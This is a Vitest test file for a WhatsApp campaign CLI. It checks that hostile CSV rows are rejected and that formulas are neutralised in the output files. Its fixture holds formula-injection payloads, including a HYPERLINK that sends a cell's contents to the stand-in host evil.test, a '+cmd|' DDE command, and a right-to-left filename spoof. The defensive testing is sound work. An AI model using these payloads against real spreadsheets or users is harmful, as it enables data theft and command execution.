import { readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { writeReport } from '../../src/campaigns/report/report.js';
import { openContext, type AppContext } from '../../src/app/app-context.js';
import { runSend } from '../../src/cli/run/send.js';
import { phoneNumber, tempDir } from '../support/csv-files.js';
import { PHONE_NUMBER_ID, SAMPLE_TEMPLATES } from '../support/pipeline.js';
import { freshPrefix, redisUrl, removePrefix } from '../support/redis.js';
import { campaignLedgerKeys } from '../../src/redis/ledger/ledger-keys.js';
import { storedRowBytes } from '../support/stored-rows.js';

/**
 * A file an attacker, or a careless export, could hand an operator: formulas, control and
 * bidi characters, invisible names, exotic spaces, a 5 MB cell. Every record is answered,
 * nothing malformed is queued, nothing from a cell is written back where a spreadsheet
 * would run it, and no bad value is kept whole.
 */
describe('hostile files through campaign send', () => {
  const prefix = freshPrefix('hostile');
  let dir: Awaited<ReturnType<typeof tempDir>>;
  let context: AppContext;

  beforeEach(async () => {
    dir = await tempDir();
    context = await openContext([], {
      REDIS_URL: redisUrl(),
      QUEUE_PREFIX: prefix,
      WHATSAPP_PHONE_NUMBER_ID: PHONE_NUMBER_ID,
      LOG_LEVEL: 'silent',
      REPORTS_DIR: join(dir.dir, 'reports'),
    });
  });

  afterEach(async () => {
    await removePrefix(context.redis, prefix);
    await context.close();
    await dir.cleanup();
  });

  const send = (file: string) =>
    runSend(context, {
      file,
      template: 'order_update',
      language: 'en_US',
      params: ['first_name', 'order_id'],
      phoneColumn: 'phone',
      templatesFile: SAMPLE_TEMPLATES,
    });

  it(
    'every record answered, each hostile value refused with its reason, formulas neutralised in the ' +
      'rejects file and the report, a 5 MB cell kept as 200 characters',
    async () => {
      const huge = '9'.repeat(5 * 1024 * 1024);
      const lines = [
        'phone,first_name,order_id',
        `${phoneNumber(1)},Ana,A-1`, //                                   row 1: sent
        `"=HYPERLINK(""http://evil.test/?x=""&A1,""open"")",Bob,A-2`, // row 2: PHONE_INVALID, formula
        `+cmd|' /C calc'!A0,Carl,A-3`, //                                 row 3: PHONE_INVALID, formula
        `${phoneNumber(4)},@SUM(A1:A9),A-4`, //                           row 4: queued: a value may start with @ (Meta takes it as text)
        `${phoneNumber(5)},Esc\u001b[31m,A-5`, //                         row 5: VALUE_CONTROL_CHAR
        `${phoneNumber(6)},Nul\u0000x,A-6`, //                            row 6: VALUE_CONTROL_CHAR
        `${phoneNumber(7)},Line\u2028Sep,A-7`, //                         row 7: VALUE_LINE_BREAK
        `${phoneNumber(8)},Next\u0085Line,A-8`, //                        row 8: VALUE_LINE_BREAK
        `${phoneNumber(9)},\u200b\u200d,A-9`, //                          row 9: VALUE_EMPTY (invisible only)
        `${phoneNumber(10)},\u3164,A-10`, //                              row 10: VALUE_EMPTY (Hangul filler)
        `${phoneNumber(11)},\u200e\u200f,A-11`, //                        row 11: VALUE_EMPTY (LRM/RLM)
        `${phoneNumber(12)},Invoice\u202etxt.exe,A-12`, //                 row 12: VALUE_BIDI_CONTROL
        `\u00a0${phoneNumber(13)}\u3000,\u2003Zoë\u00a0,A-13`, //         row 13: queued (Unicode spaces trimmed)
        `${huge},Dan,A-14`, //                                            row 14: FIELD_TOO_LONG
        `${phoneNumber(15)},"Bruno" Costa,A-15`, //                       row 15: MALFORMED_RECORD
        `${phoneNumber(16)},Eve,A-16`, //                                 row 16: queued (after the bad line)
      ];
      const file = join(dir.dir, 'hostile.csv');
      await writeFile(file, lines.join('\r\n') + '\r\n');

      const outcome = await send(file);
      expect(outcome.rows).toBe(lines.length - 1);
      expect(outcome.queued + outcome.rejected + outcome.skipped).toBe(outcome.rows);
      expect(outcome.queued).toBe(4);
      expect(outcome.byReason).toStrictEqual({
        PHONE_INVALID: 2,
        VALUE_CONTROL_CHAR: 2,
        VALUE_LINE_BREAK: 2,
        VALUE_EMPTY: 3,
        VALUE_BIDI_CONTROL: 1,
        FIELD_TOO_LONG: 1,
        MALFORMED_RECORD: 1,
      });

      // The rejects file: small, and no cell a spreadsheet would evaluate.
      const rejectsFile = outcome.rejectsFile ?? '';
      expect((await stat(rejectsFile)).size).toBeLessThan(8 * 1024);
      const rejects: { row: string; phone: string; reason: string }[] = parse(await readFile(rejectsFile, 'utf8'), { columns: true });
      expect(rejects.map((r) => Number(r.row))).toStrictEqual([2, 3, 5, 6, 7, 8, 9, 10, 11, 12, 14, 15]);
      for (const r of rejects) for (const cell of [r.phone, r.reason]) expect(cell, r.row).not.toMatch(/^[=+\-@\t\r](?![0-9]+$)/);
      expect(rejects.find((r) => r.row === '2')?.phone).toMatch(/^'=HYPERLINK/);
      expect(rejects.find((r) => r.row === '3')?.phone).toMatch(/^'\+cmd\|/);

      // Redis keeps at most 200 characters of the 5 MB cell (the rows stay small).
      expect(await storedRowBytes(context.redis, campaignLedgerKeys(prefix, PHONE_NUMBER_ID, outcome.id).rows)).toBeLessThan(16 * 1024);

      const reportPath = join(dir.dir, 'report.csv');
      expect(await writeReport(context.ledger, outcome.id, reportPath)).toBe(16);
      const report: Record<string, string>[] = parse(await readFile(reportPath, 'utf8'), { columns: true });
      for (const r of report) for (const cell of Object.values(r)) expect(cell, r.row).not.toMatch(/^[=+\-@\t\r](?![0-9]+$)/);
      expect(report.find((r) => r.row === '1')?.phone).toBe(phoneNumber(1));
      expect(report.find((r) => r.row === '13')?.phone).toBe(phoneNumber(13));
      expect((await stat(reportPath)).size).toBeLessThan(8 * 1024);
    },
  );

  it('refuses a file with no data rows, and creates nothing', async () => {
    const file = join(dir.dir, 'header-only.csv');
    await writeFile(file, 'phone,first_name,order_id\n\n\n');
    await expect(send(file)).rejects.toMatchObject({ code: 'CSV_NO_ROWS' });
    expect(await context.ledger.listCampaigns()).toStrictEqual([]);
  });

  it('refuses an unwritable REPORTS_DIR before it creates anything', async () => {
    const blocker = join(dir.dir, 'not-a-dir');
    await writeFile(blocker, 'x');
    const blocked = await openContext([], {
      REDIS_URL: redisUrl(),
      QUEUE_PREFIX: prefix,
      WHATSAPP_PHONE_NUMBER_ID: PHONE_NUMBER_ID,
      LOG_LEVEL: 'silent',
      REPORTS_DIR: join(blocker, 'reports'),
    });
    try {
      const file = join(dir.dir, 'ok.csv');
      await writeFile(file, `phone,first_name,order_id\n${phoneNumber(1)},Ana,A-1\n`);
      await expect(
        runSend(blocked, {
          file,
          template: 'order_update',
          language: 'en_US',
          params: ['first_name', 'order_id'],
          phoneColumn: 'phone',
          templatesFile: SAMPLE_TEMPLATES,
        }),
      ).rejects.toMatchObject({ code: 'OUTPUT_UNWRITABLE' });
      expect(await context.ledger.listCampaigns()).toStrictEqual([]);
    } finally {
      await blocked.close();
    }
  });
});
